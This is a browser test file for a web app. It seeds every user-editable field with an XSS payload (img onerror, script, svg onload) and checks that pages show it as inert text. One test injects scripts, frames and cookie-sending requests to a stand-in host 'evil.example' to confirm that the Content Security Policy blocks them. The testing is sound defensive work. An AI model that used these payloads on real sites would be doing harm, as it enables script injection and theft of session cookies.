import { readFileSync } from 'node:fs';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { connect, type Store } from '../../backend/store/connect.ts';
import { jsonb } from '../../backend/store/jsonb.ts';
import { addVolunteer, sessionCookie } from '../http/signed-in.ts';
import { emptyPlace, type Place } from '../servers/setting.ts';
import { movedFinding, seedChallenge, seedTask, testChallenge } from '../store/seed.ts';
import { hasChromium, openBrowser } from './open-browser.ts';
import { type Jalon, startJalon } from './start-jalon.ts';
import { WITHOUT_WORKER } from './visit.ts';

/** What would run in whoever sees it, if it were taken for anything but text. */
const SCRIPT = `<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>"><svg onload="window.hacked=1">`;

describe.skipIf(!hasChromium)('a name that is a script', () => {
  let place: Place;
  let store: Store;
  let jalon: Jalon;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let team: string;

  beforeAll(async () => {
    place = await emptyPlace('postgres');
    store = connect(place.databaseUrl!, { max: 2 });
    jalon = await startJalon({ DATABASE_URL: place.databaseUrl!, ROLE: 'api', UNDO_SECONDS: '0' });
    const person = await seed();
    browser = await openBrowser();
    context = await browser.newContext({
      ...WITHOUT_WORKER,
      locale: 'en-GB',
      viewport: { width: 1280, height: 800 },
    });
    const [name = '', value = ''] = (await sessionCookie(store, person)).split('=');
    await context.addCookies([{ name, value, url: jalon.address }]);
  }, 240_000);
  afterAll(async () => {
    await browser?.close();
    await jalon?.stop();
    await store?.destroy();
    await place?.remove();
  }, 60_000);
  beforeEach(async () => {
    page = await context.newPage();
    return () => page.close();
  });

  /** Rows that say it wherever somebody may write something. @returns an admin */
  async function seed(): Promise<string> {
    const text = { en: SCRIPT, fr: SCRIPT, nl: SCRIPT, de: SCRIPT };
    const wells = { ...testChallenge('wells'), title: text, description: text, instructions: text };
    await seedChallenge(store, wells);
    await store.insertInto('organisations').values({ id: 'fires', name: SCRIPT, website: null }).execute();
    await store
      .updateTable('challenges')
      .set({ organisation_id: 'fires' })
      .where('id', '=', 'wells')
      .execute();
    for (const [id, lat] of [
      ['open', 50.85],
      ['answered', 50.95],
    ] as const) {
      const moved = movedFinding(id === 'open' ? '1' : '2', [4.35, lat]);
      const tags = { name: SCRIPT, phone: SCRIPT, operator: SCRIPT };
      const facts = {
        ...moved,
        official: { ...moved.official!, tags },
        community: { ...moved.community!, tags: { ...tags, man_made: 'water_well' } },
      };
      await seedTask(store, 'wells', id, facts, { state: id === 'open' ? 'open' : 'settled' });
    }
    await store
      .updateTable('tasks')
      .set({ settlement: jsonb({ say: 'not-an-issue', comment: SCRIPT }), outcome: 'not-an-issue' })
      .where('id', '=', 'answered')
      .execute();
    await store
      .insertInto('runs')
      .values({
        id: 'failed-run',
        challenge_id: 'wells',
        state: 'failed',
        step: 'snapshot',
        progress: 0,
        inputs: jsonb({ official: SCRIPT, community: SCRIPT }),
        summary: jsonb({}),
        error: SCRIPT,
      })
      .execute();
    const admin = await addVolunteer(store, SCRIPT, [
      { role: 'admin' },
      { role: 'admin', organisation: 'fires' },
    ]);
    await addVolunteer(store, SCRIPT, [{ role: 'staff', organisation: 'fires' }]);
    team = 'a-team';
    await store.insertInto('teams').values({ id: team, name: SCRIPT }).execute();
    await store.insertInto('team_members').values({ team_id: team, person_id: admin, lead: true }).execute();
    await store
      .insertInto('api_keys')
      .values({
        id: 'a-key',
        person_id: admin,
        name: SCRIPT,
        token_hash: 'none',
        start: 'jalon_abcd',
        scopes: ['read'],
      })
      .execute();
    await store.updateTable('sessions').set({ agent: SCRIPT }).execute();
    return admin;
  }

  const hacked = () => page.evaluate<number | undefined>('window.hacked');
  const madeOfIt = () => page.locator('img[src="x"], svg[onload], script:not([src]), body [onerror]').count();
  const encoded = encodeURIComponent(SCRIPT);

  it.each([
    ['/', true],
    ['/challenges/wells', true],
    ['/challenges/wells/task/open', true],
    ['/challenges/wells/changes', true],
    ['/account', true],
    ['/organisations', true],
    ['/organisations/fires', true],
    ['/teams', true],
    ['/teams/a-team', true],
    ['/administration', true],
    ['/audit', false],
    [`/challenges/${encoded}`, false],
    [`/organisations/${encoded}`, false],
    [`/sign-in?problem=${encoded}`, false],
    [`/sign-in/here#${encoded}`, false],
    [`/invitations#${encoded}`, false],
    [`/${encoded}`, false],
  ])('is read as a name at %s', async (path, shown) => {
    await page.goto(jalon.address + path);
    await page.locator('main h1').first().waitFor();
    if (shown) await expect.poll(() => page.locator('body').textContent()).toContain('onerror=');
    expect([await hacked(), await madeOfIt()]).toEqual([undefined, 0]);
  });

  it('could not run, nor tell anybody, if a page took it for more', async () => {
    await page.goto(jalon.address);
    await page.locator('main h1').first().waitFor();
    await page.evaluate(`(() => {
      window.violated = [];
      document.addEventListener('securitypolicyviolation', event => window.violated.push(event.effectiveDirective));
      const box = document.createElement('div');
      box.innerHTML = ${JSON.stringify(SCRIPT)};
      const inline = document.createElement('script');
      inline.textContent = 'window.hacked = 1';
      const remote = document.createElement('script');
      remote.src = 'https://evil.example/x.js';
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(box, inline, remote, frame);
      fetch('https://evil.example/?cookie').catch(() => {});
      new Image().src = 'https://evil.example/?cookie';
    })()`);
    const violated = () => page.evaluate<string[]>('window.violated');
    for (const directive of ['script-src-attr', 'script-src-elem', 'frame-src', 'connect-src', 'img-src'])
      await expect.poll(violated).toContain(directive);
    expect(await hacked()).toBeUndefined();
  });

  it.each(['geojson', 'csv'])(
    'is taken as a file, not shown as a page, in a download as %s',
    async format => {
      await page.goto(jalon.address);
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        page.evaluate(`location.href = '/api/v1/challenges/wells/export?format=${format}'`),
      ]);
      expect(download.suggestedFilename()).toBe(`wells.${format}`);
      expect(readFileSync(await download.path(), 'utf8')).toContain('onerror=');
      expect(page.url()).toBe(`${jalon.address}/`);
    },
  );

  it('runs nothing where somebody opens the API itself', async () => {
    for (const path of ['/api/v1/challenges/wells', '/api/v1/tasks/open', `/api/v1/${encoded}`]) {
      await page.goto(jalon.address + path);
      expect([await hacked(), await madeOfIt()]).toEqual([undefined, 0]);
      expect(await page.evaluate('self.origin')).toBe('null');
    }
  });
});
